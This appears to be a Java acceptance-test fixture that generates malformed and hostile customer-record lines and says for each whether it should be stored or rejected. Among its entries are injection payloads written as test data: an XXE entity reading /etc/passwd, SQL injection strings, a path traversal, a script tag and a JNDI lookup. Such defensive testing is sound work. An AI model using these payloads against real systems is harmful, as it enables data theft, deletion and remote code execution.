package org.switchboard.acceptance.story;

import java.util.List;
import java.util.Random;
import java.util.function.BiFunction;
import java.util.stream.IntStream;

/** Invalid lines, generated from a seed; each kind says whether it may be stored. */
final class BadRecords {

    /** The expected outcome of a line. */
    enum ExpectedOutcome {
        STORED,
        REJECTED
    }

    /** @param text the line; its record, where it has one, has a key of its own */
    record Line(String kind, ExpectedOutcome fate, String text) {}

    private record Kind(String name, ExpectedOutcome fate, BiFunction<String, Random, String> text) {}

    private static final int DEEP = 5_000;
    private static final int LONG_KEY = 20_000;

    private static final List<Kind> KINDS = List.of(
            new Kind("truncated", ExpectedOutcome.REJECTED, (key, random) -> cut(good(key, "张伟"), random)),
            new Kind(
                    "wrong type of a text",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> field(key, "\"name\":" + random.nextInt())),
            new Kind(
                    "wrong type of a list",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> field(key, "\"telephones\":\"13800000000\"")),
            new Kind(
                    "an object for a text",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> field(key, "\"name\":{\"a\":[1,2]}")),
            new Kind(
                    "no such moment",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> field(key, "\"changedAt\":\"2026-02-30T10:00:00Z\"")),
            new Kind(
                    "a moment without offset",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> field(key, "\"changedAt\":\"2026-02-03 10:00\"")),
            new Kind("no key", ExpectedOutcome.REJECTED, (key, random) -> "{\"name\":\"" + key + "\"}"),
            new Kind(
                    "an empty key",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> "{\"key\":\"\",\"name\":\"" + key + "\"}"),
            new Kind(
                    "a key beyond all measure",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> good(key + noise(random), "长")),
            new Kind("an unknown word", ExpectedOutcome.REJECTED, (key, random) -> field(key, "\"kind\":\"robot\"")),
            new Kind("nested deeply", ExpectedOutcome.REJECTED, (key, random) -> "[".repeat(DEEP) + "]".repeat(DEEP)),
            new Kind(
                    "nested deeply within",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> field(key, "\"x\":" + "{\"x\":".repeat(DEEP) + "1" + "}".repeat(DEEP))),
            new Kind("a list", ExpectedOutcome.REJECTED, (key, random) -> "[" + good(key, "李娜") + "]"),
            new Kind("two objects", ExpectedOutcome.REJECTED, (key, random) -> good(key, "李娜") + good(key, "李娜")),
            new Kind("no JSON", ExpectedOutcome.REJECTED, (key, random) -> key + ";李娜;13800000000"),
            new Kind(
                    "XML with an entity",
                    ExpectedOutcome.REJECTED,
                    (key, random) -> "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
            new Kind("a zero character", ExpectedOutcome.REJECTED, (key, random) -> good(key, "a\\u0000b")),
            new Kind("half a character", ExpectedOutcome.REJECTED, (key, random) -> good(key, "a\\ud800b")),
            new Kind(
                    "SQL in a value",
                    ExpectedOutcome.STORED,
                    (key, random) -> good(key, "'); delete from customer; --")),
            new Kind("SQL in a key", ExpectedOutcome.STORED, (key, random) -> good(key + "' or 1=1 --", "王芳")),
            new Kind(
                    "a path in a key",
                    ExpectedOutcome.STORED,
                    (key, random) -> good("../../" + key + "/etc/passwd", "王芳")),
            new Kind(
                    "a page in a value",
                    ExpectedOutcome.STORED,
                    (key, random) -> good(key, "<script>alert(1)</script>")),
            new Kind(
                    "an expression in a value",
                    ExpectedOutcome.STORED,
                    (key, random) -> good(key, "${jndi:ldap://x/a} #{7*7} {{PATH}}")),
            new Kind(
                    "a field that nobody knows",
                    ExpectedOutcome.STORED,
                    (key, random) -> field(key, "\"shoeSize\":" + random.nextInt())),
            new Kind(
                    "the far future",
                    ExpectedOutcome.STORED,
                    (key, random) -> field(key, "\"changedAt\":\"2999-01-01T00:00:00Z\"")),
            new Kind(
                    "the far past",
                    ExpectedOutcome.STORED,
                    (key, random) -> field(key, "\"changedAt\":\"1899-12-31T00:00:00Z\"")));

    private BadRecords() {}

    /** As many lines, of every kind about as many. */
    static List<Line> lines(int count, String prefix, long seed) {
        Random random = new Random(seed);
        return IntStream.range(0, count)
                .mapToObj(number -> line(KINDS.get(number % KINDS.size()), prefix + number, random))
                .toList();
    }

    private static Line line(Kind kind, String key, Random random) {
        return new Line(kind.name, kind.fate, kind.text.apply(key, random));
    }

    private static String good(String key, String name) {
        return "{\"key\":\"" + key + "\",\"name\":\"" + name + "\"}";
    }

    /** Right but for this field. */
    private static String field(String key, String field) {
        String name = field.startsWith("\"name\"") ? "" : "\"name\":\"刘洋\",";
        return "{\"key\":\"" + key + "\"," + name + field + "}";
    }

    /** Within the text, so that something is missing. */
    private static String cut(String text, Random random) {
        return text.substring(0, 1 + random.nextInt(text.length() - 2));
    }

    /** Nothing that a database could press into few bytes. */
    private static String noise(Random random) {
        return random.ints(LONG_KEY, 'a', 'z' + 1)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }
}
